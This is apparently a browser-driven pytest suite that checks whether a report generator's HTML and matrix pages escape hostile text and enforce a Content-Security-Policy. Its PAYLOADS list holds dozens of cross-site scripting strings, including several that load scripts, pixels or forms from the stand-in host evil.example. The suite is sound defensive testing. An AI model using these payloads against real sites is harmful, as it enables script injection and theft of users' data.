"""Hostile text in every field that a server, a document or a caller controls, in a real browser."""

from __future__ import annotations

from dataclasses import replace
from types import ModuleType
from typing import Any

import pytest

from chatcert.report.builder import build_report
from chatcert.report.views.html import render_html
from chatcert.report.views.matrix import render_matrix

pytestmark = pytest.mark.slow

PAYLOADS = (
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    "</style><script>owned()</script>",
    "</title><script>owned()</script>",
    "</textarea></noscript></template></select><script>owned()</script>",
    "--><script>owned()</script><!--",
    "]]><script>owned()</script>",
    "<scr<script>ipt>owned()</scr</script>ipt>",
    "<scr\x00ipt>owned()</scr\x00ipt>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script type=module>import('https://evil.example/x.js')</script>",
    '"><img src=x onerror=owned()>',
    "'><img src=https://evil.example/pixel onerror=owned()>",
    "<img srcset='https://evil.example/pixel 2x' src=//evil.example/pixel>",
    "<svg/onload=owned()>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>owned()</script></svg>#x'/></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=owned()&gt;'>",
    '" onmouseover="owned()" autofocus onfocus="owned()" x="',
    "' style='background:url(https://evil.example/pixel)' x='",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video><audio src=x onerror=owned()>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:parent.owned()></iframe>",
    "</pre></details></article></main><iframe src=//evil.example></iframe>",
    "<object data=javascript:owned()></object><embed src=https://evil.example/x>",
    "<a href=javascript:owned()>x</a>",
    "javascript:owned()",
    "data:text/html,<script>owned()</script>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "<form action=https://evil.example/><button autofocus>send</button></form>",
    "<body onload=owned()><plaintext>",
    "{{ 7 * 7 }}{% raw %}${owned()}#{owned()}<%= owned() %>",
    "&lt;script&gt;owned()&#60;/script&#62;",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "\u2028owned()//\u2029*/owned()/*",
    "\u202e\u2066txt.<script>owned()</script>\u2069\u200b\ufeff\ufffe",
    "\ud800<script>owned()</script>\udfff",
    "\x1b[2J\x1b]0;owned()\x07\x9b31m\x00\x08\x7f",
    "שלום ../owned() <b>عليكم</b>",
    "a" + "\u0300\u0489" * 300,
    "W" * 5_000,
    "\n" * 500 + "x",
    "constructor __proto__ toString hasOwnProperty",
)


def report_of(samples: ModuleType, payload: str) -> tuple[Any, Any]:
    """A report with the payload everywhere, and its exchanges."""
    source = samples.hostile_input(payload)
    facts = replace(source.facts, vendor=payload, environment=payload, region=payload, deviations=(payload,))
    exchanges = [replace(exchange, control=3, control_accepted=True) for exchange in source.exchanges[:2]]
    exchanges.append(source.exchanges[2])
    report = build_report(replace(source, facts=facts, exchanges=exchanges))
    report["history"] = [
        {"finished": payload, "outcome": "conformant", "totals": report["totals"], "vendor": payload} for _ in range(3)
    ]
    return report, exchanges


def census(page: Any) -> dict[str, int]:
    """Count the elements of the page by name, and the attributes that would run or load something."""
    return page.evaluate(
        """() => {
          const found = {};
          for (const one of document.querySelectorAll("*")) {
            found[one.localName] = (found[one.localName] ?? 0) + 1;
            for (const { name, value } of one.attributes) {
              const risky = /^(on|src|srcset|style|action|formaction|srcdoc|data$|xlink)/.test(name) ||
                (name === "href" && !/^(#|[^:]*\\/report\\.html)/.test(value));
              if (risky) found["@" + name] = (found["@" + name] ?? 0) + 1;
            }
          }
          return found;
        }"""
    )


def plain(counted: dict[str, int]) -> dict[str, int]:
    """A census without the elements whose number depends on a body: marks of differences, and notes."""
    return {name: number for name, number in counted.items() if name not in ("ins", "del", "mark", "b", "p")}


def stir(page: Any) -> None:
    """Act like a reader: open every section, hover over every element, and follow every link."""
    page.evaluate(
        """() => {
          for (const one of document.querySelectorAll("details")) one.open = true;
          for (const one of document.querySelectorAll("*")) {
            for (const kind of ["mouseover", "focus", "toggle"]) one.dispatchEvent(new Event(kind));
          }
          for (const place of [".found a", ".totals a", ".see", ".finding .id", ".copy"]) {
            document.querySelector(place)?.click();
          }
        }"""
    )


@pytest.fixture(scope="module")
def harmless(samples: ModuleType, window: Any) -> dict[str, dict[str, int]]:
    """The census of both pages where nothing in them is hostile."""
    report, exchanges = report_of(samples, "harmless")
    return {
        "report": census(window.open(render_html(report, exchanges)).page),
        "matrix": census(window.open(render_matrix({"x": report, "y": report})).page),
    }


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload)[:40])
def test_hostile_text_stays_text(
    window: Any, samples: ModuleType, harmless: dict[str, dict[str, int]], payload: str
) -> None:
    """No element appears, nothing runs, loads or overflows. The policy is removed here: escaping is enough."""
    text = render_html(*report_of(samples, payload))
    assert 1 == text.count("Content-Security-Policy")
    seen = window.open(text.replace("Content-Security-Policy", "x-no-policy"))

    stir(seen.page)

    assert not seen.owned
    assert [] == seen.noise
    assert plain(harmless["report"]) == plain(census(seen.page))
    assert 0 == seen.too_wide


@pytest.mark.parametrize("payload", PAYLOADS[::6], ids=lambda payload: ascii(payload)[:40])
def test_the_matrix_takes_hostile_text_too(
    window: Any, samples: ModuleType, harmless: dict[str, dict[str, int]], payload: str
) -> None:
    """A vendor's name, its folder's name and its fields are text in the matrix."""
    report, _ = report_of(samples, payload)
    text = render_matrix({payload: report, f"{payload}2": report}, {})
    seen = window.open(text.replace("Content-Security-Policy", "x-no-policy"))

    stir(seen.page)

    assert not seen.owned
    assert [] == seen.noise
    assert harmless["matrix"] == census(seen.page)
    assert 0 == seen.too_wide


@pytest.mark.parametrize("payload", [one for one in PAYLOADS if "=" in one and "refresh" not in one][::3], ids=ascii)
def test_the_policy_alone_holds_too(window: Any, samples: ModuleType, payload: str) -> None:
    """If a payload were written into the page as markup, the policy would still let nothing run or load.

    No policy within a page forbids a `refresh` to another address: escaping alone prevents that.
    """
    source = samples.report_input(count=1)
    text = render_html(build_report(source), source.exchanges)
    broken = text.replace("</main>", f"<div>{payload}</div></main>")
    assert text != broken
    seen = window.open(broken)

    assert not seen.owned
    assert [] == [line for line in seen.noise if not line.startswith("console error")]


def test_the_traps_of_these_tests_do_spring(window: Any) -> None:
    """On a page without any defence the payload runs and its request is seen, so the tests above can fail."""
    seen = window.open("<script>owned(); alert(1)</script><img src=https://evil.example/pixel onerror=owned()>")

    assert seen.owned
    assert ["dialog: 1", "request: https://evil.example/pixel"] == sorted(seen.noise)[1:]
    assert {"@src": 1, "@onerror": 1}.items() <= census(seen.page).items()


def test_a_megabyte_is_cut_with_a_word_on_it(window: Any, samples: ModuleType) -> None:
    """Very long values and bodies are cut, so the page stays small and says so."""
    report, exchanges = report_of(samples, "y" * 50_000)
    body = replace(exchanges[0].received, body=b"z" * 1_000_000)

    text = render_html(report, [replace(exchanges[0], received=body), *exchanges[1:]])

    assert len(text) < 1_500_000
    page = window.open(text).page
    assert "cut here: 50,000 characters in all" in page.inner_text("main")
    assert "cut here: 1,000,000 bytes in all, whole in evidence.jsonl" in page.text_content("main")
